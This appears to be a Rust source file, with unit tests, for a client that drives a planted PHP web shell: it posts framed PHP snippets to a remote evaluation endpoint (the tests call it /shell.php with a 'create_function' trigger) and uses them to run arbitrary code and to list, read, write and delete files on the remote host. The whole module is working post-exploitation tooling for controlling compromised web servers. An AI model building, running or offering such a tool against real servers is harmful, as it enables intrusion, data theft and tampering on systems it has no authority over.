use async_trait::async_trait;
use base64::{engine::general_purpose::STANDARD, Engine as _};
use bytes::Bytes;
use reqwest::{header::ACCEPT, Client, Url};
use tracing::{debug, warn};

use crate::{
    config::BrowserConfig,
    error::{BrowserError, Result},
    protocol,
    source::{CodeExecutor, DirectorySource},
    types::DirectoryListing,
};

/// Directory source backed by a remote PHP evaluation endpoint
///
/// Each operation becomes one framed snippet of PHP sent in a single form
/// POST. The reply text between the markers is the operation's output.
#[derive(Clone)]
pub struct RemoteSource {
    client: Client,
    endpoint: Url,
    config: BrowserConfig,
    cwd: String,
}

impl RemoteSource {
    /// Create a source and ask the endpoint for its working directory
    pub async fn connect(config: BrowserConfig) -> Result<Self> {
        let mut source = Self::with_directory(config, "/")?;
        source.cwd = source.remote_cwd().await?;
        debug!("remote working directory is {}", source.cwd);
        Ok(source)
    }

    /// Create a source starting at `cwd` without contacting the endpoint
    pub fn with_directory(config: BrowserConfig, cwd: impl Into<String>) -> Result<Self> {
        config.validate()?;
        let endpoint = config.endpoint_url()?;

        let mut builder = Client::builder().user_agent(config.user_agent.clone());
        if let Some(timeout) = config.timeout() {
            builder = builder.timeout(timeout);
        }
        let client = builder.build()?;

        Ok(Self {
            client,
            endpoint,
            config,
            cwd: cwd.into(),
        })
    }

    /// Run arbitrary PHP on the remote host and return its framed output
    ///
    /// A reply without both markers yields an empty string, unless
    /// `strict_framing` is set.
    pub async fn execute(&self, code: &str) -> Result<String> {
        let framed = protocol::frame(code);
        debug!(
            "POST {} ({} bytes of code)",
            self.endpoint,
            framed.len()
        );

        let response = self
            .client
            .post(self.endpoint.clone())
            .header(ACCEPT, "text/plain")
            .form(&[
                (self.config.trigger_field.as_str(), self.config.trigger_value.as_str()),
                (self.config.code_field.as_str(), framed.as_str()),
            ])
            .send()
            .await
            .map_err(|e| self.transport_error(e))?;

        let status = response.status();
        if !status.is_success() {
            warn!("{} answered with status {}", self.endpoint, status);
        }

        let body = response.text().await.map_err(|e| self.transport_error(e))?;
        debug!("received {} bytes from {}", body.len(), self.endpoint);

        match protocol::extract_framed(&body) {
            Some(output) => Ok(output.to_string()),
            None if self.config.strict_framing => Err(BrowserError::MalformedResponse {
                message: format!(
                    "reply from {} lacks output markers ({} bytes)",
                    self.endpoint,
                    body.len()
                ),
            }),
            None => {
                warn!(
                    "reply from {} lacks output markers, treating output as empty",
                    self.endpoint
                );
                Ok(String::new())
            }
        }
    }

    /// Working directory of the remote process, with `/` separators
    pub async fn remote_cwd(&self) -> Result<String> {
        let cwd = protocol::normalize(&self.execute(&protocol::getcwd_code()).await?);
        if cwd.is_empty() {
            warn!("endpoint reported no working directory, using \".\"");
            return Ok(".".to_string());
        }
        Ok(cwd)
    }

    fn resolve(&self, name: &str) -> String {
        protocol::join(&self.cwd, name)
    }

    fn transport_error(&self, error: reqwest::Error) -> BrowserError {
        if error.is_timeout() {
            BrowserError::Timeout {
                endpoint: self.endpoint.to_string(),
            }
        } else {
            BrowserError::Transport(error)
        }
    }
}

#[async_trait]
impl DirectorySource for RemoteSource {
    async fn list_entries(&self) -> Result<DirectoryListing> {
        let output = self.execute(&protocol::list_code(&self.cwd)).await?;
        let entries = protocol::parse_listing(&output);

        Ok(DirectoryListing::sorted(
            self.cwd.clone(),
            protocol::is_root(&self.cwd),
            entries,
        ))
    }

    fn current_directory(&self) -> String {
        self.cwd.clone()
    }

    fn navigate(&mut self, target: &str) {
        self.cwd = protocol::navigate(&self.cwd, target);
    }

    async fn read_file(&self, name: &str) -> Result<Bytes> {
        let encoded = self.execute(&protocol::read_code(&self.resolve(name))).await?;
        let data = STANDARD.decode(encoded.trim())?;
        Ok(Bytes::from(data))
    }

    async fn write_file(&self, name: &str, contents: Bytes) -> Result<()> {
        self.execute(&protocol::write_code(&self.resolve(name), &contents))
            .await?;
        Ok(())
    }

    async fn delete_file(&self, name: &str) -> Result<()> {
        self.execute(&protocol::delete_code(&self.resolve(name)))
            .await?;
        Ok(())
    }

    fn identifier(&self) -> String {
        format!("{}#{}", self.endpoint, self.cwd)
    }

    fn as_executor(&self) -> Option<&dyn CodeExecutor> {
        Some(self)
    }
}

#[async_trait]
impl CodeExecutor for RemoteSource {
    async fn execute(&self, code: &str) -> Result<String> {
        RemoteSource::execute(self, code).await
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::types::EntryType;
    use mockito::Matcher;

    const SCRIPT: &str = "/shell.php";

    fn framed_body(output: &str) -> String {
        format!(
            "<b>Notice</b>: noise\n{}{}{}\n</html>",
            protocol::START_DELIMITER,
            output,
            protocol::STOP_DELIMITER
        )
    }

    fn code_matcher(code: &str) -> Matcher {
        Matcher::AllOf(vec![
            Matcher::UrlEncoded("_".into(), "create_function".into()),
            Matcher::UrlEncoded("POST".into(), protocol::frame(code)),
        ])
    }

    fn config_for(server: &mockito::Server) -> BrowserConfig {
        BrowserConfig::from_endpoint(format!("{}{}", server.url(), SCRIPT))
    }

    #[tokio::test]
    async fn test_connect_reads_working_directory() {
        let mut server = mockito::Server::new_async().await;
        let mock = server
            .mock("POST", SCRIPT)
            .match_header("content-type", "application/x-www-form-urlencoded")
            .match_header("accept", "text/plain")
            .match_body(code_matcher(&protocol::getcwd_code()))
            .with_body(framed_body(r"C:\inetpub\wwwroot"))
            .create_async()
            .await;

        let source = RemoteSource::connect(config_for(&server)).await.unwrap();

        assert_eq!(source.current_directory(), "C:/inetpub/wwwroot");
        mock.assert_async().await;
    }

    #[tokio::test]
    async fn test_list_entries() {
        let mut server = mockito::Server::new_async().await;
        let output = "/var/www/b.txt\u{1f}10\u{1e}/var/www/a.txt\u{1f}2048\u{1e}";
        let dirs = "/var/www/Zdir\u{1f}\u{1e}/var/www/adir\u{1f}\u{1e}";
        let _mock = server
            .mock("POST", SCRIPT)
            .match_body(code_matcher(&protocol::list_code("/var/www")))
            .with_body(framed_body(&format!("{}{}", dirs, output)))
            .create_async()
            .await;

        let source = RemoteSource::with_directory(config_for(&server), "/var/www").unwrap();
        let listing = source.list_entries().await.unwrap();

        let names: Vec<_> = listing.entries.iter().map(|e| e.name.as_str()).collect();
        assert_eq!(names, vec!["..", "adir", "Zdir", "a.txt", "b.txt"]);
        assert_eq!(listing.entries[1].entry_type, EntryType::Dir);
        assert_eq!(listing.entries[3].display_size, "2.0Kb");
        assert_eq!(listing.path, "/var/www");
    }

    #[tokio::test]
    async fn test_missing_markers_degrade_to_empty() {
        let mut server = mockito::Server::new_async().await;
        let _mock = server
            .mock("POST", SCRIPT)
            .with_status(500)
            .with_body("<b>Parse error</b>: syntax error")
            .create_async()
            .await;

        let source = RemoteSource::with_directory(config_for(&server), "/").unwrap();

        assert_eq!(source.execute("echo 1;").await.unwrap(), "");
        assert!(source.list_entries().await.unwrap().entries.is_empty());
        assert!(source.read_file("x").await.unwrap().is_empty());
    }

    #[tokio::test]
    async fn test_strict_framing_reports_missing_markers() {
        let mut server = mockito::Server::new_async().await;
        let _mock = server
            .mock("POST", SCRIPT)
            .with_body("nothing useful")
            .create_async()
            .await;

        let mut config = config_for(&server);
        config.strict_framing = true;
        let source = RemoteSource::with_directory(config, "/").unwrap();

        assert!(matches!(
            source.execute("echo 1;").await,
            Err(BrowserError::MalformedResponse { .. })
        ));
    }

    #[tokio::test]
    async fn test_execute_returns_raw_output() {
        let mut server = mockito::Server::new_async().await;
        let _mock = server
            .mock("POST", SCRIPT)
            .match_body(code_matcher("echo phpversion();"))
            .with_body(framed_body("8.2.1"))
            .create_async()
            .await;

        let source = RemoteSource::with_directory(config_for(&server), "/").unwrap();
        assert_eq!(source.execute("echo phpversion();").await.unwrap(), "8.2.1");
    }

    #[tokio::test]
    async fn test_custom_form_fields() {
        let mut server = mockito::Server::new_async().await;
        let mock = server
            .mock("POST", SCRIPT)
            .match_body(Matcher::AllOf(vec![
                Matcher::UrlEncoded("mode".into(), "eval".into()),
                Matcher::UrlEncoded("c".into(), protocol::frame("echo 1;")),
            ]))
            .with_body(framed_body("1"))
            .create_async()
            .await;

        let mut config = config_for(&server);
        config.trigger_field = "mode".to_string();
        config.trigger_value = "eval".to_string();
        config.code_field = "c".to_string();
        let source = RemoteSource::with_directory(config, "/").unwrap();

        assert_eq!(source.execute("echo 1;").await.unwrap(), "1");
        mock.assert_async().await;
    }

    #[tokio::test]
    async fn test_read_and_write_use_base64() {
        let mut server = mockito::Server::new_async().await;
        let payload: Vec<u8> = (0..=255u8).collect();
        let encoded = STANDARD.encode(&payload);

        let write = server
            .mock("POST", SCRIPT)
            .match_body(code_matcher(&protocol::write_code("/srv/blob.bin", &payload)))
            .with_body(framed_body(""))
            .create_async()
            .await;
        let read = server
            .mock("POST", SCRIPT)
            .match_body(code_matcher(&protocol::read_code("/srv/blob.bin")))
            .with_body(framed_body(&format!("{}\n", encoded)))
            .create_async()
            .await;

        let source = RemoteSource::with_directory(config_for(&server), "/srv").unwrap();

        source
            .write_file("blob.bin", Bytes::from(payload.clone()))
            .await
            .unwrap();
        let data = source.read_file("blob.bin").await.unwrap();

        assert_eq!(data.as_ref(), payload.as_slice());
        write.assert_async().await;
        read.assert_async().await;
    }

    #[tokio::test]
    async fn test_read_rejects_invalid_base64() {
        let mut server = mockito::Server::new_async().await;
        let _mock = server
            .mock("POST", SCRIPT)
            .with_body(framed_body("<b>Warning</b>: file_get_contents(x)"))
            .create_async()
            .await;

        let source = RemoteSource::with_directory(config_for(&server), "/").unwrap();

        assert!(matches!(
            source.read_file("x").await,
            Err(BrowserError::Decode(_))
        ));
    }

    #[tokio::test]
    async fn test_delete_file() {
        let mut server = mockito::Server::new_async().await;
        let mock = server
            .mock("POST", SCRIPT)
            .match_body(code_matcher(&protocol::delete_code("/srv/it's.txt")))
            .with_body(framed_body(""))
            .create_async()
            .await;

        let source = RemoteSource::with_directory(config_for(&server), "/srv").unwrap();
        source.delete_file("it's.txt").await.unwrap();

        mock.assert_async().await;
    }

    #[tokio::test]
    async fn test_connection_refused_is_transport_error() {
        let config = BrowserConfig::from_endpoint("http://127.0.0.1:1/shell.php");
        let source = RemoteSource::with_directory(config, "/").unwrap();

        assert!(matches!(
            source.execute("echo 1;").await,
            Err(BrowserError::Transport(_))
        ));
    }

    #[tokio::test]
    async fn test_unresponsive_endpoint_times_out() {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        let _server = tokio::spawn(async move {
            // Accept and hold the connection without ever answering
            let (socket, _) = listener.accept().await.unwrap();
            tokio::time::sleep(std::time::Duration::from_secs(30)).await;
            drop(socket);
        });

        let mut config = BrowserConfig::from_endpoint(format!("http://{}{}", addr, SCRIPT));
        config.timeout_secs = 1;
        let source = RemoteSource::with_directory(config, "/").unwrap();

        assert!(matches!(
            source.execute("echo 1;").await,
            Err(BrowserError::Timeout { .. })
        ));
    }

    #[test]
    fn test_navigation_uses_remote_separators() {
        let config = BrowserConfig::from_endpoint("http://example.com/shell.php");
        let mut source = RemoteSource::with_directory(config, "C:/inetpub").unwrap();

        source.navigate("wwwroot");
        assert_eq!(source.current_directory(), "C:/inetpub/wwwroot");
        source.navigate("..");
        source.navigate("..");
        assert_eq!(source.current_directory(), "C:");
        source.navigate("..");
        assert_eq!(source.current_directory(), "C:");
    }

    #[test]
    fn test_invalid_endpoint_is_rejected() {
        let config = BrowserConfig::from_endpoint("shell.php");
        assert!(matches!(
            RemoteSource::with_directory(config, "/"),
            Err(BrowserError::InvalidConfig { .. })
        ));
    }
}
